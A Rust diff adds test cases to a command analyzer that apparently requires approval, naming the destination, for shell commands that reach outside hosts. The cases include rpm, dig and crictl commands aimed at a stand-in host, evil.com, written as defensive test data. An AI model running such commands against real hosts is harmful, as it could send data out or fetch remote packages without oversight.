@@ -176,6 +176,8 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             ("dig +search +domain=evil.com secret", "evil.com"),
             ("dig +search +dom=evil.com secret", "evil.com"),
             ("crictl -r tcp://evil.com:2375 ps", "evil.com"),
+            ("rpm -qp http://evil.com/x.rpm", "evil.com"),
+            ("rpm -qpl https://secret.evil.com/", "secret.evil.com"),
         ] {
             let a = analyze(cmd);
             assert!(!a.is_read_only(), "{cmd}");
@@ -225,6 +227,9 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             "dig @10.0.0.2#5353 db01",
             "dig +time=2 +tries=1 +subnet=10.0.0.0/24 db01",
             "crictl -r unix:///run/containerd/containerd.sock ps",
+            "rpm -qp http://repo.internal/x.rpm",
+            "echo http://evil.com/k",
+            "grep -r 'https://evil.com/x' /etc/nginx",
         ] {
             let a = analyze(cmd);
             assert!(a.is_read_only(), "{cmd}: {:?}", a.reasons);
